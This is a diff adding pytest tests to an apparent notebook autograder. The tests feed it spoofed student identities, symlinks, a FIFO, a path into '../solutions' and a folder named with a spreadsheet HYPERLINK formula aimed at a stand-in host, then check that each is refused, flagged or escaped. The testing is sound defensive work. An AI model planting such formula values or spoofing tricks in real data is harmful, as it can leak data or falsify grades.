@@ -348,3 +348,70 @@ def test_no_sandbox_cgroup_survives_the_batch(batch) -> None:  # noqa: ANN001
 
     assert cgroup.unavailable() is None, "the hostile batch must run with a cgroup per sandbox (CI runs as root)"
     assert cgroup.made_here() == set()
+
+
+# --- identity and inputs are the instructor's (issue: grades that hold under a whole class) -------
+# One real batch: the folder decides who, links and FIFOs are refused unopened, a file name and its
+# metadata disagreeing on the lab is noted, and a spreadsheet cannot run a student's folder name.
+
+FORMULA_FOLDER = '=HYPERLINK("https:x.example"&A1,"x")'
+
+
+@pytest.fixture(scope="module")
+def identity_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, GradeResult], list[dict[str, str]]]:
+    import csv
+
+    import nbformat
+
+    root = tmp_path_factory.mktemp("identity")
+    folder = root / "submissions"
+
+    def put(relative: str, notebook: object, **course: str) -> Path:
+        notebook = __import__("copy").deepcopy(notebook)
+        notebook.metadata["course"] = {**notebook.metadata.get("course", {}), **course}  # type: ignore[attr-defined]
+        path = folder / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        nbformat.write(notebook, path)
+        return path
+
+    put("bob/lab_11_2_group_interactions.ipynb", honest(), student="bob")
+    put("mallory/lab_11_2_group_interactions.ipynb", hostile(WRONG), student="bob")
+    put(f"{FORMULA_FOLDER}/lab_11_2_group_interactions.ipynb", honest())
+    put("conflict/lab_11_3_build_context.ipynb", honest(), lab="11.2")
+    outside = put("../solutions/lab_11_2_group_interactions.ipynb", honest())
+    (folder / "linker").mkdir()
+    (folder / "linker" / "lab_11_2_group_interactions.ipynb").symlink_to(outside)
+    (folder / "piper").mkdir()
+    os.mkfifo(folder / "piper" / "lab_11_2_group_interactions.ipynb")
+    results = grade_folder(folder, GradeOptions(limits=LIMITS), jobs=2, progress=False)
+    write_csv(results, root / "grades.csv")
+    with (root / "grades.csv").open(newline="", encoding="utf-8") as file:
+        table = list(csv.DictReader(file))
+    return {r.submission.split("/")[0]: r for r in results}, table
+
+
+def test_a_notebook_naming_another_student_is_its_folders_row(identity_batch) -> None:  # noqa: ANN001
+    rows = identity_batch[0]
+    assert (rows["bob"].student, rows["bob"].score, rows["bob"].max_score) == ("bob", 5, 5)
+    assert rows["mallory"].student == "mallory" and rows["mallory"].score < 5
+    assert "names 'bob'" in " ".join(rows["mallory"].notes)
+    assert rows["bob"].submission != rows["mallory"].submission
+
+
+def test_links_and_fifos_in_the_folder_get_an_error_row_and_the_batch_goes_on(identity_batch) -> None:  # noqa: ANN001
+    rows = identity_batch[0]
+    for name, what in (("linker", "a symbolic link"), ("piper", "a FIFO")):
+        assert rows[name].status == "error" and rows[name].score == 0 and what in rows[name].notes[0]
+    assert rows[FORMULA_FOLDER].score == 5
+
+
+def test_a_file_name_and_metadata_disagreeing_on_the_lab_is_not_silently_full_marks(identity_batch) -> None:  # noqa: ANN001
+    result = identity_batch[0]["conflict"]
+    assert result.lab == "11.3" and result.score < result.max_score
+    assert "metadata (course.lab) says Lab 11.2" in result.notes[0]
+
+
+def test_the_csv_cannot_run_a_students_folder_name(identity_batch) -> None:  # noqa: ANN001
+    row = next(r for r in identity_batch[1] if FORMULA_FOLDER in r["student"])
+    assert row["student"] == "'" + FORMULA_FOLDER and row["file"].startswith("'=")
+    assert row["file"] == f"'{FORMULA_FOLDER}/lab_11_2_group_interactions.ipynb"
